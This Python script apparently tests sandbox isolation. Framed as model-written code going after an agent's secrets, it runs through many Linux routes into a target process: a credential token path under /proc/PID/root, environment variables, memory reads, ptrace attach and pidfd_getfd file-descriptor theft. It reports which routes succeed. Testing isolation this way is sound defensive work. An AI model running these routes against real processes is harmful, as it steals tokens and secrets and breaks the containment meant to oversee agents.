"""Model code that is after the agent's secrets: tries every way that Linux has to look into another process.

python thief.py WORD [SECONDS]: prints one line of JSON for each process whose command line has the word, waiting that long for the first
to appear: {"pid", "command", "status", "got", "refused"}, with what each way got (as text, cut short) or the error that refused it.
"""

import ctypes
import json
import os
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
PROCESS_VM_READV, PIDFD_OPEN, PIDFD_GETFD = 310, 434, 438
TOKEN = "var/run/secrets/stoker.dev/token"


def read(path):
    with open(path, "rb") as file:
        return file.read(4096)


def read_memory(pid):
    with open(f"/proc/{pid}/mem", "rb") as file:
        file.seek(first_address(pid))
        return file.read(16)


def first_address(pid):
    try:
        return int(read(f"/proc/{pid}/maps").split(b"-")[0], 16)
    except OSError:
        return 0x400000


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def copy_memory(pid):
    buffer = ctypes.create_string_buffer(16)
    here = Piece(ctypes.addressof(buffer), 16)
    there = Piece(first_address(pid), 16)
    checked(libc.syscall(PROCESS_VM_READV, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
    return buffer.raw


def attach(pid):
    checked(libc.ptrace(PTRACE_ATTACH, pid, 0, 0))
    os.waitpid(pid, 0x40000000)
    libc.ptrace(PTRACE_DETACH, pid, 0, 0)
    return "attached"


def take_file(pid):
    handle = checked(libc.syscall(PIDFD_OPEN, pid, 0))
    return os.readlink(f"/proc/self/fd/{checked(libc.syscall(PIDFD_GETFD, handle, 1, 0))}")


WAYS = {
    "token": lambda pid: read(f"/proc/{pid}/root/{TOKEN}"),
    "token by its thread": lambda pid: read(f"/proc/{pid}/task/{pid}/root/{TOKEN}"),
    "root": lambda pid: os.listdir(f"/proc/{pid}/root/"),
    "environment": lambda pid: read(f"/proc/{pid}/environ"),
    "working folder": lambda pid: os.readlink(f"/proc/{pid}/cwd"),
    "file of the working folder": lambda pid: read(f"/proc/{pid}/cwd/package.json"),
    "open files": lambda pid: os.listdir(f"/proc/{pid}/fd"),
    "an open file": lambda pid: os.readlink(f"/proc/{pid}/fd/1"),
    "memory map": lambda pid: read(f"/proc/{pid}/maps"),
    "memory": read_memory,
    "memory by copying": copy_memory,
    "being its debugger": attach,
    "a file by its handle": take_file,
    "a namespace": lambda pid: os.readlink(f"/proc/{pid}/ns/mnt"),
}


def processes(word):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                command = read(f"/proc/{name}/cmdline").replace(b"\0", b" ").decode().strip()
            except OSError:
                continue  # gone meanwhile
            if word in command:
                yield int(name), command


def status(pid):
    try:
        lines = read(f"/proc/{pid}/status").decode().splitlines()
    except OSError:
        return {}  # gone meanwhile
    return dict(line.split(":\t", 1) for line in lines if ":\t" in line)


until = time.monotonic() + float(sys.argv[2] if len(sys.argv) > 2 else 0)
victims = list(processes(sys.argv[1]))
while not victims and time.monotonic() < until:
    time.sleep(0.005)
    victims = list(processes(sys.argv[1]))

for pid, command in victims:
    got, refused = {}, {}
    for way, attempt in WAYS.items():
        try:
            got[way] = repr(attempt(pid))[:200]
        except OSError as error:
            refused[way] = os.strerror(error.errno)
    print(json.dumps({"pid": pid, "command": command, "status": status(pid), "got": got, "refused": refused}))
